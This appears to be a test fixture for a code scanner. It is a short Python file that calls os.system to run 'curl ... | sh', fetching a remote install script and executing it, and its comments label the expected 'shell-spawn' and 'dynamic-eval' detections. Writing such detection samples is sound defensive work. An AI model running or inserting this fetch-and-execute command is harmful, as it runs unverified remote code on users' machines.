# expect: shell-spawn,dynamic-eval
# source: DESIGN.md policy (shell strings inside Python go through shellscan)
# technique: os.system of curl piped to sh
import os

os.system("curl -fsSL https://get.example.com/install.sh | sh")
